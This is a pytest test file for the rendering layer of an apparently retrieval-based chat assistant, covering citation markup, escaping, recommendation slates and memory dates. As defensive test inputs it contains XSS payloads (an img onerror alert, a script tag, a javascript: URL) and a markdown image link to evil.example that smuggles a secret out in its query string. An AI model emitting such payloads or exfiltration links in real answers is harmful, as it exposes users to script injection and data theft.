"""What people see is escaped, marked and linked."""

from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from bot.types import Citation, Recommendation, Slate, Span, Trimmed
from memory.types import Item, Memory
from ui.json_views import memory_json
from ui.render import (
    answer_markdown,
    citations_html,
    facts_html,
    slate_html,
    trimmed_html,
    trimmed_text,
    when_words,
)

EVIL = '<img src=x onerror="alert(1)">'


def citation(quote: str, text: str, title: str = "Guide") -> Citation:
    spans = (Span(text.index(quote), text.index(quote) + len(quote)),)
    return Citation(1, title, "/docs/guide.pdf", 3, "Guide › Hours", quote, text, "d1", spans)


def test_markers_link_to_their_sources_and_others_stay_text() -> None:
    shown = answer_markdown("It closes at 18:30 [1]. See [7].", "m1", [1])
    assert "[\\[1\\]](#zy-m1-1)" in shown
    assert shown.endswith("See [7].")


def test_html_in_an_answer_is_shown_as_text() -> None:
    assert "<img" not in answer_markdown(EVIL, "m1", [])


def test_pictures_are_not_fetched_and_code_stays_as_it_is() -> None:
    assert "![" not in answer_markdown("![x](https://evil.example/?m=secret)", "m1", [])
    code = "Run `git clone <url> && cd x [1]`:\n```sh\na < b && rows[1]\n```"
    assert answer_markdown(code, "m1", [1]) == code


def test_the_quote_is_marked_inside_its_passage() -> None:
    html = citations_html([citation("closes at 18:30", "The office closes at 18:30 daily.")], "m1", "en")
    assert "The office <mark>closes at 18:30</mark> daily." in html
    assert 'id="zy-m1-1"' in html
    assert "p. 3" in html
    assert "第3页" in citations_html([citation("a", "a")], "m1", "zh")


def test_every_supporting_part_is_marked() -> None:
    text = "It opens at 9:00. Lanterns hang there. It closes at 18:30."
    both = replace(citation("It opens at 9:00.", text), spans=(Span(0, 17), Span(39, 58)))
    assert "<mark>It opens at 9:00.</mark> Lanterns hang there. <mark>It closes at 18:30.</mark>" in citations_html(
        [both], "m1", "en"
    )


def test_a_page_of_a_pdf_is_shown_with_the_quote_boxed_and_other_documents_have_none(tmp_path: Path) -> None:
    (tmp_path / "guide.PDF").write_bytes(b"%PDF")
    cited = replace(citation("closes at 18:30", "It closes at 18:30 daily."), uri=str(tmp_path / "guide.PDF"))
    shown = citations_html([cited], "m1", "en")
    where = "quote=closes+at+18%3A30&amp;passage=It+closes+at+18%3A30+daily."
    assert f'src="/api/v1/documents/d1/pages/3?{where}"' in shown
    assert 'alt="Page 3 of Guide' in shown
    other = replace(citation("a", "a"), uri="/docs/guide.md", page=None)
    assert "<img" not in citations_html([other], "m1", "en")


@pytest.mark.parametrize(
    "uri",
    [
        "https://example.org/guide.pdf",
        f"https://example.org/{'long' * 99}.pdf",
        "file:///docs/repository#guide.pdf",
        "/no/longer/there/guide.pdf",
    ],
)
def test_no_page_is_shown_of_a_pdf_that_is_not_on_this_machine(uri: str) -> None:
    cited = replace(citation("closes at 18:30", "It closes at 18:30 daily."), uri=uri)
    assert "<img" not in citations_html([cited], "m1", "en")


def test_documents_cannot_smuggle_html_into_the_page() -> None:
    html = citations_html([citation(EVIL, f"{EVIL} text", EVIL)], "m1", "en")
    assert "<img src=x" not in html
    assert 'onerror="' not in html


def test_items_cannot_smuggle_scripts_into_the_page() -> None:
    item = Item('i"><script>', "demo", EVIL, EVIL, url="javascript:alert(1)")
    html = slate_html(Slate("s", (Recommendation(item, EVIL, 1.0, 1, "interest", "imp"),)), "en")
    assert "<script" not in html
    assert "<img" not in html
    assert "javascript:" not in html


def test_an_empty_slate_says_so() -> None:
    assert "Nothing left" in slate_html(None, "en")
    assert "暂时没有" in slate_html(Slate("s", ()), "zh")


def test_what_the_model_was_not_shown_is_told_in_both_languages() -> None:
    assert trimmed_text(Trimmed(messages=4), "en").startswith("Earlier messages were left out")
    assert trimmed_text(Trimmed(messages=4), "zh").startswith("较早的消息没有采用")
    assert "found" not in trimmed_text(Trimmed(messages=4), "en")
    assert trimmed_text(Trimmed(passages=1), "en").startswith("Some of what was found was left out")
    assert "找到的部分内容没有采用" in trimmed_text(Trimmed(messages=4, memories=2), "zh")
    assert 'class="zy-note"' in trimmed_html(Trimmed(), "en")


def test_a_memory_tells_which_days_it_means_and_when_it_was_said() -> None:
    late = datetime(2026, 11, 27, 20, tzinfo=UTC)  # the next morning in Shanghai
    zone = ZoneInfo("Asia/Shanghai")
    memory = Memory("1", "mei", "plan", "下个月三号我飞罗马", "", "active", 1.0, late, zone="Asia/Shanghai")
    assert when_words(memory, "zh", zone) == "指2026年12月3日 · 说于2026年11月28日"
    assert when_words(memory, "en", zone) == "Means 3 December 2026 · Said on 28 November 2026"
    assert when_words(replace(memory, text="I like tea"), "en", zone) == "Said on 28 November 2026"
    assert memory_json(memory)["days_meant"] == ["2026-12-03"]
    assert "下个月三号我飞罗马 (2026-12-03)" in facts_html([], [memory], "zh", zone)
